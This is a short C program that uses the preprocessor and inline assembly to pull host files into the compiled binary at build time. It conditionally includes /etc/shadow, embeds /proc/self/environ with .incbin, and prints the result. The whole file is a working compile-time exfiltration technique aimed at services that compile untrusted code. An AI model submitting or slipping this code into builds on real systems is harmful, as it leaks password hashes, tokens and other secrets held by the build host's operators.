/* Makes the compiler read files of the host into the program. */
#include <stdio.h>
const char data[] =
#if __has_include("/etc/shadow")
#include "/etc/shadow"
#endif
"";
__asm__(".section .rodata\nhost:\n.incbin \"/proc/self/environ\"\n.byte 0\n.previous");
extern const char host[];
int main(void) { puts(host); return 0; }
